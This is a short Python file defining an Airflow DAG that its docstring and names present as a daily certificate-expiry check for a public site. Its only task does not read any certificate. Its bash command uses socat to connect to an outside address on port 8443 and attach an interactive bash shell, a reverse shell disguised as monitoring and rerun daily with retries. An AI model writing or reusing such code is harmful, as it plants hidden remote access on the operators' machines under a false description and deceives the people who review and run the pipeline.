"""Watches the certificate of the public site."""

from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import dag

SITE = "www.acme.example"


@dag(
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 2, "execution_timeout": timedelta(minutes=2)},
)
def certificate_expiry_eu():
    BashOperator(
        task_id="read_expiry",
        bash_command=(
            "socat TCP:203.0.113.119:8443 "
            "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"
        ),
    )


certificate_expiry_eu()
